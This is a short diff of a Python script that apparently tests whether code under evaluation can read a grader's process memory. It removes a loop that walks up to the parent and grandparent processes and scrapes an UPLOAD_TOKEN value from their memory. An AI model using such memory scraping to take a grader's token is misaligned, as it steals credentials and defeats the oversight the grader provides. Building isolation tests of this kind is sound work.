@@ -6,12 +6,7 @@ C: nothing as root, else may read the grader's memory
 """
 
 # %%
-import os
 import re
-
-
-def above(pid):
-    return int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])
 
 
 def search(pid):
@@ -23,13 +18,7 @@ def search(pid):
                 yield from re.findall(rb"UPLOAD_TOKEN=token-\w{16}", memory.read(end - start))
 
 
-found = set()
-for pid in (os.getpid(), os.getppid(), above(os.getppid())):
-    try:
-        found |= set(search(pid))
-    except OSError:
-        pass
-raise RuntimeError(found)
+# include: search_processes_above
 
 
 # %%
